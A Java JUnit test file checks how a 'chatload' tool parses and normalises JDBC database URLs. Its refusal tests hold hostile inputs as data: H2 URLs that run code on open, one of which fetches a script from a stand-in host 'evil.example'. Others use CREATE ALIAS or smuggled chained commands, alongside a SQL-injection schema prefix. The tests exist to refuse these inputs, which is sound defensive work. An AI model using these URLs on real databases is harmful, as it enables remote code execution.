package io.chatload.load;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.chatload.config.ConfigException;
import io.chatload.load.DatabaseUrl.Kind;
import java.sql.SQLException;
import java.util.List;
import org.junit.jupiter.api.Test;

class DatabaseUrlTest {

    private static DatabaseUrl parse(String url) throws SQLException {
        return DatabaseUrl.parse(url, "");
    }

    @Test
    void theSchemeNamesTheDatabase() throws SQLException {
        assertEquals(Kind.H2, parse("jdbc:h2:file:./chatload").kind());
        assertEquals(Kind.POSTGRESQL, parse("jdbc:postgresql://db:5432/chatload").kind());
        assertEquals(Kind.MARIADB, parse("jdbc:mariadb://db/chatload").kind());
        assertEquals(Kind.MARIADB, parse("jdbc:mysql://db/chatload").kind());
    }

    @Test
    void h2FileDatabasesWriteEachCommitAtOnceAndStayOpenUntilChatloadClosesThemUnlessTheUrlSaysOtherwise() throws SQLException {
        assertEquals(new DatabaseUrl(Kind.H2, "jdbc:h2:file:./chatload;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;DATABASE_TO_LOWER=TRUE", ""),
                parse("jdbc:h2:file:./chatload"));
        assertEquals("jdbc:h2:file:./c;AUTO_SERVER=TRUE;WRITE_DELAY=0;DATABASE_TO_LOWER=TRUE", parse("jdbc:h2:file:./c;AUTO_SERVER=TRUE").driverUrl(),
                "H2 does not take DB_CLOSE_ON_EXIT=FALSE with AUTO_SERVER=TRUE");
        assertEquals("jdbc:h2:file:./c;write_delay=500;DB_CLOSE_ON_EXIT=FALSE;DATABASE_TO_LOWER=TRUE", parse("jdbc:h2:file:./c;write_delay=500").driverUrl());
        assertEquals("jdbc:h2:file:./c;DB_CLOSE_ON_EXIT=TRUE;WRITE_DELAY=0;DATABASE_TO_LOWER=TRUE", parse("jdbc:h2:file:./c;DB_CLOSE_ON_EXIT=TRUE").driverUrl());
        assertEquals("jdbc:h2:mem:c;DB_CLOSE_DELAY=-1;DATABASE_TO_LOWER=TRUE", parse("jdbc:h2:mem:c;DB_CLOSE_DELAY=-1").driverUrl());
    }

    @Test
    void h2FoldsNamesToLowerCaseUnlessTheUrlChoosesTheCase() throws SQLException {
        assertEquals("jdbc:h2:mem:c;DATABASE_TO_UPPER=TRUE", parse("jdbc:h2:mem:c;DATABASE_TO_UPPER=TRUE").driverUrl());
        assertEquals("jdbc:h2:file:./c;database_to_lower=false;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE",
                parse("jdbc:h2:file:./c;database_to_lower=false").driverUrl());
    }

    @Test
    void postgresqlBatchesAreRewrittenUnlessTheUrlSaysOtherwise() throws SQLException {
        assertEquals("jdbc:postgresql://db/c?reWriteBatchedInserts=true", parse("jdbc:postgresql://db/c").driverUrl());
        assertEquals("jdbc:postgresql://db/c?ssl=true&reWriteBatchedInserts=true", parse("jdbc:postgresql://db/c?ssl=true").driverUrl());
        assertEquals("jdbc:postgresql://db/c?rewritebatchedinserts=false",
                parse("jdbc:postgresql://db/c?rewritebatchedinserts=false").driverUrl());
    }

    @Test
    void mariadbGetsRewrittenBatchesAndSchemaMetadata() throws SQLException {
        assertEquals("jdbc:mariadb://db/c?rewriteBatchedStatements=true&useCatalogTerm=SCHEMA",
                parse("jdbc:mariadb://db/c").driverUrl());
        assertEquals("jdbc:mariadb://db/c?useCatalogTerm=CATALOG&rewriteBatchedStatements=true",
                parse("jdbc:mariadb://db/c?useCatalogTerm=CATALOG").driverUrl());
        assertEquals("jdbc:mysql://db/c?rewriteBatchedStatements=true&useCatalogTerm=SCHEMA&permitMysqlScheme=true",
                parse("jdbc:mysql://db/c").driverUrl(), "MariaDB's driver takes jdbc:mysql: only when permitted");
    }

    @Test
    void theSchemaPrefixIsChatloadsAndNotTheDrivers() throws SQLException {
        assertEquals(new DatabaseUrl(Kind.H2, "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;DATABASE_TO_LOWER=TRUE", "t1_"),
                parse("jdbc:h2:mem:x;chatloadSchemaPrefix=t1_;DB_CLOSE_DELAY=-1"));
        assertEquals(new DatabaseUrl(Kind.MARIADB, "jdbc:mariadb://db/c?rewriteBatchedStatements=true&useCatalogTerm=SCHEMA", "t1_"),
                parse("jdbc:mariadb://db/c?chatloadSchemaPrefix=t1_"));
        assertEquals("jdbc:mariadb://db/c?a=1&b=2&rewriteBatchedStatements=true&useCatalogTerm=SCHEMA",
                parse("jdbc:mariadb://db/c?a=1&chatloadSchemaPrefix=t1_&b=2").driverUrl());
        assertEquals("jdbc:postgresql://db/c?b=2&reWriteBatchedInserts=true",
                parse("jdbc:postgresql://db/c?chatloadSchemaPrefix=t1_&b=2").driverUrl());
        assertEquals("", parse("jdbc:postgresql://db/c").schemaPrefix());
    }

    @Test
    void aPrefixThatIsNoSafeNameIsRefused() {
        SQLException e = assertThrows(SQLException.class, () -> parse("jdbc:mariadb://db/c?chatloadSchemaPrefix=x`;drop"));
        assertTrue(e.getMessage().contains("chatloadSchemaPrefix"), e.getMessage());
    }

    @Test
    void anUnknownSchemeListsTheKnownOnesWithoutThePassword() {
        SQLException e = assertThrows(SQLException.class, () -> DatabaseUrl.parse("jdbc:sqlserver://h;password=pw9", "pw9"));
        assertEquals("unsupported database URL 'jdbc:sqlserver://h;password=***': supported are H2 (jdbc:h2:...),"
                + " PostgreSQL (jdbc:postgresql://host[:port]/database),"
                + " MariaDB/MySQL (jdbc:mariadb://host[:port]/database or jdbc:mysql://...)", e.getMessage());
    }

    @Test
    void anH2UrlThatRunsCodeIsRefusedNamingTheSettingNotThePassword() {
        for (String url : List.of(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/p.sql'",
                "jdbc:h2:file:./c;AUTO_SERVER=TRUE; init = CREATE ALIAS X AS 'void x() {}'",
                "jdbc:h2:file:./c;DATABASE_EVENT_LISTENER='com.example.Listener'",
                "jdbc:h2:file:./c;JAVA_OBJECT_SERIALIZER='com.example.Serializer'",
                "jdbc:h2:file:./c;URL_MAP=/tmp/map.properties",
                "jdbc:h2:file:./c;TRACE_MAX_FILE_SIZE=1\\;CREATE ALIAS X AS 'void x() {}'\\;CALL X()")) {
            ConfigException e = assertThrows(ConfigException.class, () -> DatabaseUrl.parse(url + ";PASSWORD=pw9", "pw9"), url);
            assertTrue(e.getMessage().startsWith("chatload.db.url: the H2 URL holds "), e.getMessage());
            assertTrue(e.getMessage().endsWith("which runs code when the database opens; refused unless "
                    + "chatload.db.allow-code=true (CHATLOAD_DB_ALLOW_CODE)"), e.getMessage());
            assertFalse(e.getMessage().contains("pw9"), "the password never shows: " + e.getMessage());
            assertFalse(e.getMessage().lines().count() > 1, e.getMessage());
        }
        ConfigException init = assertThrows(ConfigException.class, () -> parse("jdbc:h2:mem:x;INIT=SELECT 1"));
        assertTrue(init.getMessage().contains("holds INIT="), init.getMessage());
    }

    @Test
    void theSettingLetsAnH2UrlRunCode() throws SQLException {
        assertEquals("jdbc:h2:mem:x;INIT=CREATE SCHEMA IF NOT EXISTS s;DATABASE_TO_LOWER=TRUE",
                DatabaseUrl.parse("jdbc:h2:mem:x;INIT=CREATE SCHEMA IF NOT EXISTS s", "", true).driverUrl());
        assertEquals("jdbc:h2:file:./c;IFEXISTS=FALSE;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;DATABASE_TO_LOWER=TRUE",
                parse("jdbc:h2:file:./c;IFEXISTS=FALSE").driverUrl(), "other settings stay allowed");
    }
}
